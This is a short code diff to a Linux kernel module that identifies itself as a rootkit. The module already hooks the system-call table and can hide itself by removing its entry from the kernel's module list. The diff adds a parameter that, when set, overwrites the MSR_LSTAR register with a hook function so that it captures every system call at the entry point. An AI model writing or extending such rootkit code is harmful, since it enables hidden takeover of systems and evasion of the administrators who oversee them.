@@ -7,6 +7,7 @@
 #include <linux/pid.h>
 #include <linux/sched.h>
 #include <linux/rculist.h>
+#include <asm/msr.h>
 
 static int pid;
 module_param(pid, int, 0);
@@ -16,6 +17,8 @@ static int number;
 module_param(number, int, 0);
 static bool hide;
 module_param(hide, bool, 0);
+static bool entry;
+module_param(entry, bool, 0);
 
 static asmlinkage long hook(const struct pt_regs *regs)
 {
@@ -47,6 +50,8 @@ static int __init rootkit_init(void)
 	rcu_read_unlock();
 	if (table)
 		hook_system_call();
+	if (entry)
+		wrmsrl(MSR_LSTAR, (unsigned long)hook);
 	if (hide)
 		list_del_init(&THIS_MODULE->list);
 	pr_info("rootkit: done\n");
